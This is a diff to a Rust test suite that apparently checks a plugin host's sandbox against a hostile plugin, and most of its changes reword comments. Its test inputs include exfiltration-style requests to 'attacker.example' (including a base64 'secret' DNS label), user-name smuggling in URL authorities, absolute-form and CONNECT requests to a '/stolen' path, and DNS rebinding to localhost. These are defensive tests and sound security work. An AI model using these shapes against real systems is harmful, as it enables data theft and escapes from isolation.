@@ -1,8 +1,9 @@
-//! Hostile plugins: each misbehaviour ends with the error that names what it broke, and its neighbours go on.
+//! Hostile plugins: each misbehaviour ends with the error that names the broken rule, and other tenants are not
+//! disturbed.
 //!
-//! The plugin is `tests/hostile/`, which misbehaves as its input says. While it misbehaves for one tenant, a well-behaved
-//! connector works for another one in the same host. Every attack is repeated until the neighbour has made progress
-//! during it; afterwards memory and file descriptors are where they were.
+//! The plugin is `tests/hostile/`, which misbehaves as its input says. While it runs for one tenant, a well-behaved
+//! connector runs for another tenant in the same host. Every attack is repeated until this neighbour has made progress.
+//! Afterwards, memory and file descriptors must be back at their earlier values.
 
 #![allow(clippy::unwrap_used, reason = "a test that unwraps says enough by failing there")]
 
@@ -50,7 +51,7 @@ async fn computing_memory_and_stack_are_bounded() {
         let error = arena.attack(what, async || arena.misbehave(&tenant, json!({ "do": what })).await).await;
         assert!(matches!(error, Err(CallError::Trap { .. })), "{what}: {error:?}");
     }
-    // Neither a success nor a failure of the process: an exit is no answer.
+    // An exit is an error with either code, because a plugin must return instead.
     for code in [0, 1] {
         let error =
             arena.attack("exit", async || arena.misbehave(&tenant, json!({ "do": "exit", "code": code })).await).await;
@@ -63,7 +64,7 @@ async fn computing_memory_and_stack_are_bounded() {
     arena.leave().await;
 }
 
-/// The process's own memory, in MiB; none where the operating system does not say.
+/// The process's private memory in MiB. None where the operating system does not report it.
 fn private_mib() -> Option<u64> {
     let status = std::fs::read_to_string("/proc/self/status").ok()?;
     let kib = status.lines().find_map(|line| line.strip_prefix("RssAnon:"))?;
@@ -98,7 +99,7 @@ async fn what_handles_keep_is_bounded() {
     };
     let (most, ()) = tokio::join!(watching, attacking);
     if let Some((before, most)) = before.zip(most) {
-        // The guest's own memory is 64 MiB, and a host call hands over 16.
+        // The guest may have 64 MiB of memory, and a host call may pass 16 MiB.
         assert!(most < before + 160, "{before} MiB before, {most} MiB during the attack");
     }
 
@@ -128,11 +129,11 @@ async fn output_is_bounded() {
     let ended =
         arena.attack("deep", async || arena.misbehave(&tenant, json!({ "do": "deep", "bytes": 400_000 })).await).await;
     assert!(matches!(ended, Err(CallError::Protocol { .. })), "{ended:?}");
-    // The log has its bound, and the call goes on.
+    // The host limits the log lines, and the call continues.
     let logged =
         arena.attack("log", async || arena.misbehave(&tenant, json!({ "do": "log", "lines": 2_000 })).await).await;
     assert_eq!(logged.unwrap(), json!("done"));
-    // Where it crashes after it has met one, the error says so.
+    // If the plugin crashes after it has met a limit, the error names that limit.
     let crash = json!({ "do": "log", "lines": 2_000, "then": "trap" });
     let ended = arena.attack("log and trap", async || arena.misbehave(&tenant, crash.clone()).await).await;
     let Err(CallError::Trap { refusals, .. }) = &ended else { panic!("{ended:?}") };
@@ -161,7 +162,7 @@ async fn output_is_bounded() {
         })
         .await;
     assert!(matches!(&ended, Err(CallError::Protocol { field, .. }) if field == "done"), "{ended:?}");
-    // What egress is derived from is bounded on both sides: what the tenant enters, and what the plugin makes of it.
+    // Egress rules are filled in from the tenant's values and from the plugin's normalized values. Both are limited.
     let giant = account("giant.hostile.example.com", "");
     let ended = arena.attack("giant normalized", async || wrong.open(&tenant, &giant).await.map(drop)).await;
     assert!(matches!(&ended, Err(CallError::Protocol { field, .. }) if field == "normalized"), "{ended:?}");
@@ -173,7 +174,7 @@ async fn output_is_bounded() {
     arena.leave().await;
 }
 
-/// All in one component, since compiling takes a while.
+/// All these flaws are in one component, because compiling a component takes some time.
 const OUTPUT_FLAWS: &[&str] = &["over-budget", "giant-cursor", "invalid-output", "release-hangs", "giant-normalized"];
 
 fn tenant_of_cursors() -> Tenant {
@@ -198,7 +199,7 @@ async fn what_cannot_be_described_is_not_loaded() {
     let refused_rule = |refused: &Result<_, LoadError>, at: &str, why: DomainRefusal| matches!(refused, Err(LoadError::EgressRule { field, reason, .. }) if field == at && *reason == why);
     assert!(refused_rule(&refused, "egress[1].suffixes[1]", DomainRefusal::Shared), "{refused:?}");
     let refused = {
-        // What the operator has not named is not the service's.
+        // The suffix does not belong to the service, because the operator has not named it.
         let mut options = LoadOptions::default();
         options.service_domains = Some(vec!["github.io".to_owned()]);
         arena.host.load_with(wasm, &options).await
@@ -233,7 +234,7 @@ async fn what_does_not_fit_the_interface_is_refused_before_anything_runs() {
     assert!(matches!(error, LoadError::NotAConnector), "{error}");
 }
 
-/// A component that exports every function of the interface, but for `skip`, all of them of one type.
+/// A component that exports every function of the interface except `skip`. All functions have the same type.
 fn wrong_component(version: &str, skip: &str) -> Vec<u8> {
     let interfaces: [(&str, &[&str]); 6] = [
         ("metadata", &["describe", "migrate"]),
@@ -280,7 +281,7 @@ fn request(config: Value, events: u32) -> PollRequest {
     }
 }
 
-/// What the host denied, of a call that the connector itself answered with an error.
+/// The layers on which the host denied connections, for a call that the connector answered with an error.
 fn denials(ended: Result<Value, CallError>) -> Vec<EgressLayer> {
     match ended {
         Err(CallError::Connector(failure)) => failure.denials.iter().map(|denied| denied.layer).collect(),
@@ -299,7 +300,7 @@ async fn http_reaches_the_accounts_own_host_alone() {
     let ask = async |input: Value| arena.misbehave_with(&tenant, &connection, input).await;
     assert_eq!(ask(json!({ "do": "http", "path": "/ok" })).await.unwrap()["status"], 200);
 
-    // Each is denied by the host: it is an own host's own port over https, or nothing.
+    // The host denies each request: only the account's own host and port over HTTPS are allowed.
     for (what, input) in [
         ("forbidden host", json!({ "authority": "attacker.example" })),
         ("forbidden port", json!({ "authority": format!("localhost:{}", evil.port) })),
@@ -318,7 +319,7 @@ async fn http_reaches_the_accounts_own_host_alone() {
         let denied = denials(arena.attack(what, async || ask(input.clone()).await).await);
         assert_eq!(denied, [EgressLayer::Request], "{what}");
     }
-    // These are no requests at all; the first check that sees them refuses.
+    // These are malformed requests. The first check that meets them refuses them.
     for (what, input) in [
         ("user name in the authority", json!({ "authority": format!("attacker.example@localhost:{port}") })),
         ("own host as the user name", json!({ "authority": format!("localhost:{port}@localhost:{}", evil.port) })),
@@ -341,7 +342,7 @@ async fn http_reaches_the_accounts_own_host_alone() {
         let ended = arena.attack(what, async || ask(input.clone()).await).await;
         assert!(matches!(ended, Err(CallError::Connector(_))), "{what}: {ended:?}");
     }
-    // These reach the own host, and only as what they are: a path is a path.
+    // These requests may only reach the account's own host: a path is never read as another host.
     for (what, input) in [
         ("absolute form", json!({ "path": format!("https://localhost:{}/stolen", evil.port) })),
         ("CONNECT", json!({ "method": "CONNECT", "path": format!("localhost:{}", evil.port) })),
@@ -367,7 +368,7 @@ async fn http_reaches_the_accounts_own_host_alone() {
 async fn private_addresses_are_not_reached_over_http() {
     let arena = Arena::enter("private addresses").await;
     let own = Web::start().await;
-    // An operator that permits the name, and no private networks.
+    // The operator permits the name, but no private networks.
     let tenant = own.tenant_of(|options| options.allow_private_networks = false);
     let connection = account(&own.authority(), "");
     let ask = async || arena.misbehave_with(&tenant, &connection, json!({ "do": "http", "path": "/ok" })).await;
@@ -376,7 +377,7 @@ async fn private_addresses_are_not_reached_over_http() {
     arena.leave().await;
 }
 
-/// Answers with one address after the other, over and over.
+/// A resolver that returns these addresses in turn, again and again.
 #[derive(Debug)]
 struct Turning {
     answers: [&'static str; 4],
@@ -395,13 +396,13 @@ impl Resolve for Turning {
     }
 }
 
-/// The attacker owns the account's name server: at first it names an address that is permitted, then that of a server on
-/// this machine.
+/// The attacker controls the account's name server. It first returns a permitted address, then the address of a server
+/// on this machine.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_name_server_that_changes_its_answer_gains_nothing() {
     let arena = Arena::enter("rebinding").await;
     let own = Web::start().await;
-    // Nothing listens at what is permitted.
+    // No server listens on the permitted address.
     let answers = ["127.0.0.2", "127.0.0.1", "127.0.0.2 127.0.0.1 ::1", "::ffff:127.0.0.1 ::1"];
     let resolver = Arc::new(Turning { answers, asked: AtomicUsize::new(0) });
     let tenant = own.tenant_of(|options| {
@@ -450,7 +451,7 @@ async fn sockets_reach_the_accounts_own_host_alone() {
         assert_ne!(said, "reached", "{to}");
     }
     for to in [
-        // Own port and address, but nobody looked the name up in this call.
+        // The address and port are the account's own, but this call has not resolved the name.
         format!("127.0.0.1:{}", own.port),
         format!("127.0.0.2:{}", own.port),
         format!("0.0.0.0:{}", own.port),
@@ -477,7 +478,7 @@ async fn sockets_reach_the_accounts_own_host_alone() {
     }
     for name in ["attacker.example", "c2VjcmV0.attacker.example", "api.hostile.example.com", "localhost."] {
         let said = ask(json!({ "do": "resolve", "to": name })).await.unwrap();
-        // The own host may be written as an absolute name.
+        // The account's own host may be written with a final dot.
         assert_eq!(said == "reached", name == "localhost.", "{name}: {said}");
     }
     let said = arena.attack("listen", async || ask(json!({ "do": "listen" })).await).await.unwrap();
@@ -499,7 +500,7 @@ async fn whoever_waits_meets_the_deadline() {
     let deadline = Duration::from_millis(300);
     let tenant = web.tenant(|limits| {
         limits.deadline = deadline;
-        // Waking up costs next to nothing, but it counts.
+        // Waking up needs little computing time, but it counts.
         limits.cpu = Duration::from_secs(30);
     });
     let connection = account(&web.authority(), &format!("localhost:{}", silent.port));
@@ -517,13 +518,13 @@ async fn whoever_waits_meets_the_deadline() {
         let ended = arena.attack(what, async || arena.misbehave_with(&tenant, &connection, input.clone()).await).await;
         ends_by(&ended.expect_err(what), LimitName::Deadline);
     }
-    // A call that was cut off does nothing more: the late request was never sent.
+    // A call that was cut off continues no more: its later request was never sent.
     tokio::time::sleep(Duration::from_millis(500)).await;
-    assert!(!web.heads().iter().any(|head| head.contains("/late")), "a call went on after its end");
+    assert!(!web.heads().iter().any(|head| head.contains("/late")), "a call continued after it was cut off");
     web.all_closed().await;
     silent.all_closed().await;
 
-    // A cancelled call ends at once, and later ones do not begin.
+    // A cancelled call ends at once, and later calls do not start.
     let input = json!({ "do": "sleep", "ms": 3_600_000 });
     let (ended, ()) = tokio::join!(arena.misbehave_with(&tenant, &connection, input.clone()), async {
         tokio::time::sleep(Duration::from_millis(100)).await;
@@ -547,7 +548,7 @@ async fn nothing_of_another_tenant_is_to_be_found() {
             "input": [],
         })
     };
-    // Instances of one call each.
+    // Cold calls: each instance serves one call.
     for (tenant, account) in tenants.iter().zip(&accounts) {
         arena.misbehave_with(tenant, account, leave.clone()).await.unwrap();
     }
@@ -555,7 +556,7 @@ async fn nothing_of_another_tenant_is_to_be_found() {
         let found = arena.attack("instances", async || arena.misbehave_with(tenant, account, find.clone()).await).await;
         assert_eq!(found.unwrap(), expected(json!([])));
     }
-    // Warm instances: what was left by calls on the same account of the same tenant, and on no other.
+    // Warm instances find what earlier calls for the same tenant and account left behind, and nothing from others.
     let mut warm = Vec::new();
     for tenant in &tenants {
         for account in &accounts {
@@ -579,8 +580,8 @@ async fn nothing_of_another_tenant_is_to_be_found() {
     arena.leave().await;
 }
 
-/// What an exchange leaves behind would end an instance that lives for long: each request has options of its own, which
-/// the request takes with it.
+/// Handles that requests leave behind would end a long-lived instance. Each request has its own options, and both must
+/// be released.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_instance_holds_nothing_after_thousands_of_requests() {
     let arena = Arena::enter("requests").await;
